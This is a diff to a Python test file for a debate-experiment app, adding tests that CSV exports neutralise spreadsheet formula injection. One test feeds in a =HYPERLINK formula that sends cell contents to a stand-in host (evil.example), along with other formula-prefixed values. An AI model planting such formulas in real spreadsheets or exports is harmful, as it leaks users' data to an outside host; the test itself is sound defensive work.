@@ -15,6 +15,7 @@ from app.cli.experiment.source import judgments_of_file
 from app.core.experiments import imported
 from app.statistics import exported
 from app.statistics.results import results as computed
+from app.wire import tables
 
 HEAD = "debate_id,motion_id,proposer,opponent,judge,winner,order,correct\n"
 ROWS = (
@@ -109,7 +110,11 @@ def test_the_command_line_and_the_server_know_the_same_columns():
 
 # Whatever is exported is read back.
 
-WORDS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=12)
+PLAIN = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=12)
+FORMULAS = st.builds(
+    "{}{}1".format, st.sampled_from(["", "'", "''"]), st.sampled_from("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+)
+WORDS = st.one_of(PLAIN, FORMULAS)
 NAMES = WORDS.filter(str.strip)
 CONTESTANTS = NAMES.map(str.strip)
 SIDES = ("proposer", "opponent")
@@ -164,11 +169,7 @@ def judgments(judges):
 
 
 def as_csv(rows):
-    text = io.StringIO(newline="")
-    writer = csv.DictWriter(text, exported.COLUMNS)
-    writer.writeheader()
-    writer.writerows(rows)
-    return text.getvalue().encode()
+    return b"".join(tables.as_csv("judgments", [[dict.fromkeys(exported.COLUMNS) | row for row in rows]]))
 
 
 def kept(rows):
@@ -201,6 +202,20 @@ def test_whatever_is_exported_can_be_imported_and_read_from_a_file(api, tmp_path
         offline = json.loads(json.dumps(computed(judgments_of_file(file))))
         for part in ("ratings", "matrix", "sides", "arms", "differences"):
             assert offline[part] == found[part], (form, part)
+
+
+def test_no_cell_of_an_export_is_a_formula_to_a_spreadsheet(api):
+    judges = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'quoted"]
+    text = io.StringIO(newline="")
+    names = HEAD.strip().split(",")
+    csv.writer(text).writerows([names, *([f"={judge}", "m", "a", "b", judge, "tie", "", ""] for judge in judges)])
+    at = f"/experiments/{imported_from(api, text.getvalue().encode())}"
+    body = api.http.get(f"{at}/export").content
+    cells = [cell for row in csv.reader(io.StringIO(body.decode(), newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n"))] == []
+    assert {f"'{judges[0]}", "'quoted"} <= set(cells)
+    for source in (at, f"/experiments/{imported_from(api, body)}"):
+        assert {row["judge"] for row in exported_rows(api, source)} == set(judges)
 
 
 def imported_from(api, body):
